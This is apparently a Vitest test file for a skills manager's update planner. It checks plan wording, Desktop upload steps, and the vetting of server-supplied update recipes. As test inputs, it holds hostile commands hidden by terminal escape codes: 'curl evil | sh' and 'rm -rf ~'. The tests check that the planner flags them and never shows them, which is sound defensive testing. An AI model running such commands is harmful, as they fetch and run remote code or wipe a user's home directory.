import { describe, expect, it } from "vitest";
import type { Skill, UpdateInfo } from "../../../shared/model";
import { DESKTOP_UPLOAD_PLACES, desktopUploadSteps } from "../desktop-handoff/desktop-handoff";
import { planUpdate } from "./plan";

const skill = (over: Partial<Skill> = {}): Skill => ({
  id: "s1",
  name: "agentkey",
  description: "d",
  dir: "/h/.claude/skills/agentkey",
  realDir: "/h/.claude/skills/agentkey",
  client: "claude-code",
  locationId: "l1",
  version: "1.2.0",
  versionSource: "metadata.version",
  contentHash: "x",
  diagnostics: [],
  valid: true,
  links: [],
  userOwned: true,
  ...over,
});
const info = (over: Partial<UpdateInfo> = {}): UpdateInfo => ({
  skillId: "s1",
  name: "agentkey",
  dir: "/h/.claude/skills/agentkey",
  installed: "1.2.0",
  installedSource: "metadata.version",
  latest: "1.3.0",
  state: "outdated",
  source: "github-release",
  downloads: [{ name: "agentkey.zip", size: 10, url: "https://example.test/agentkey.zip" }],
  checkedAt: "2026-11-30T12:00:00.000Z",
  ...over,
});

describe("planUpdate", () => {
  it("replaces a folder the user owns, and says the linked places follow", () => {
    const plan = planUpdate(skill({ links: ["/h/.agents/skills/agentkey"] }), info());
    expect(plan).toMatchObject({
      kind: "replace-folder",
      skillId: "s1",
      name: "agentkey",
      realDir: "/h/.claude/skills/agentkey",
    });
    expect(plan.nextStep).toMatch(/^Download version 1\.3\.0 .*replace this folder/);
    expect(plan.steps).toEqual([expect.stringMatching(/linked from 1 other place; updating its real folder/)]);
  });

  it("hands a Claude Desktop copy to Desktop's upload, with numbered steps, even when the server gives a shell recipe", () => {
    const desktop = skill({
      client: "claude-desktop",
      userOwned: false,
      desktop: { skillId: "k", creatorType: "user", enabled: true, syncManaged: true, accountTree: "a/b" },
    });
    const plan = planUpdate(desktop, info({ recipe: { kind: "shell", command: "npx -y skills update -g agentkey" } }));
    expect(plan.kind).toBe("desktop-upload");
    expect(plan.nextStep).toContain(
      `upload it in Claude Desktop (${DESKTOP_UPLOAD_PLACES.current} (in earlier versions: ${DESKTOP_UPLOAD_PLACES.earlier}))`,
    );
    expect(plan.steps[0]).toContain("version 1.3.0 as a .skill archive");
    expect(plan.steps.slice(1)).toEqual(desktopUploadSteps("the .skill file", "agentkey", "1.3.0"));
    expect(plan.steps.join("\n")).toContain(`Go to ${DESKTOP_UPLOAD_PLACES.current}`);
  });

  it("never puts a manual recipe with control characters or line breaks into the steps, even one stored as not suspicious", () => {
    for (const suspicious of [undefined, false]) {
      const command = "Open the admin page.\n\u001b]0;owned\u0007Then run: curl evil | sh";
      const plan = planUpdate(skill(), info({ recipe: { kind: "manual_ui", command, suspicious } }));
      expect(plan.kind).toBe("manual");
      expect(plan.recipe?.suspicious).toBe(true);
      expect(plan.steps).toEqual([]);
      expect(plan.nextStep).toMatch(/never run/);
      expect(plan.nextStep).not.toContain("curl");
    }
  });

  it("runs a shell recipe only when it is clean, and marks one with control characters as suspicious", () => {
    const clean = planUpdate(skill(), info({ recipe: { kind: "shell", command: "npx -y skills update -g agentkey" } }));
    expect(clean).toMatchObject({
      kind: "run-recipe",
      nextStep: expect.stringContaining("Its update server gives a command"),
      recipe: { kind: "shell", command: "npx -y skills update -g agentkey", suspicious: false },
    });
    const hidden = planUpdate(skill(), info({ recipe: { kind: "shell", command: "npx ok\u001b[2K\rrm -rf ~" } }));
    expect(hidden.recipe?.suspicious).toBe(true);
    expect(hidden.nextStep).not.toContain("rm -rf");
    expect(hidden.nextStep).toMatch(/never run/);
  });

  it("shows a manual recipe as instructions, a plugin's skill as the plugin's update, a managed copy as its client's", () => {
    expect(
      planUpdate(skill(), info({ recipe: { kind: "manual_ui", command: "Open the admin page and click Update." } })),
    ).toMatchObject({
      kind: "manual",
      nextStep: expect.stringContaining("Its update server says how"),
      steps: [],
      recipe: { kind: "manual_ui", command: "Open the admin page and click Update.", suspicious: false },
    });
    expect(planUpdate(skill({ pluginId: "p1" }), info())).toMatchObject({
      kind: "manual",
      nextStep: expect.stringContaining("update the plugin"),
    });
    expect(planUpdate(skill({ userOwned: false }), info())).toMatchObject({
      kind: "not-updatable",
      nextStep: expect.stringContaining("managed by its client, Claude Code: update it in Claude Code"),
    });
  });

  it("says there is nothing to do, or why nothing can be planned, when no update is due", () => {
    expect(planUpdate(skill(), info({ state: "up-to-date", latest: "1.2.0" })).nextStep).toMatch(
      /^Nothing to do: this copy is the latest/,
    );
    expect(planUpdate(skill(), info({ state: "ahead" })).nextStep).toMatch(/newer than the latest release/);
    expect(planUpdate(skill(), info({ state: "changed-locally" })).nextStep).toMatch(/changed here/);
    expect(
      planUpdate(skill(), info({ state: "unknown", latest: null, reason: "No update source is known." })).nextStep,
    ).toBe("Nothing can be planned yet. No update source is known.");
    expect(planUpdate(skill(), undefined)).toMatchObject({
      kind: "replace-folder",
      nextStep: expect.stringMatching(/no update check has run/),
    });
  });
});

describe("the plan's words", () => {
  it("never name a command line or a flag, for any kind, state or source (a server's recipe stays in `recipe`)", () => {
    const plugin = skill({ pluginId: "p1" });
    const desktop = skill({ client: "claude-desktop" });
    const skills = [
      skill(),
      skill({ links: ["/h/.agents/skills/agentkey"] }),
      plugin,
      desktop,
      skill({ userOwned: false }),
    ];
    const tree = {
      source: "github-tree" as const,
      installed: null,
      latest: null,
      repository: "acme/skills",
      folder: "skills/agentkey",
      branch: "main",
      upstreamHash: "b".repeat(40),
      recordedHash: "a".repeat(40),
      downloads: [],
    };
    const recipes = [
      { kind: "shell" as const, command: "npx -y skills update -g agentkey --yes" },
      { kind: "manual_ui" as const, command: "Run skillshelf update agentkey --force in a terminal." },
    ];
    const infos: Array<UpdateInfo | undefined> = [undefined];
    for (const state of ["outdated", "up-to-date", "ahead", "changed-locally", "unknown"] as const) {
      infos.push(info({ state }), info({ state, downloads: [] }), info({ state, ...tree }));
      for (const recipe of recipes) infos.push(info({ state, recipe }));
    }
    infos.push(info({ state: "changed-locally", ...tree, changedFiles: ["SKILL.md"] }));
    let seen = 0;
    for (const s of skills)
      for (const i of infos) {
        const plan = planUpdate(s, i);
        for (const text of [plan.nextStep, ...plan.steps]) {
          seen++;
          expect(text, `${plan.kind} / ${i?.state ?? "no check"}`).not.toMatch(/skillshelf |(^|[\s(`])--[a-z]/);
          expect(text).not.toContain("npx");
        }
      }
    expect(seen).toBeGreaterThan(150);
  });
});
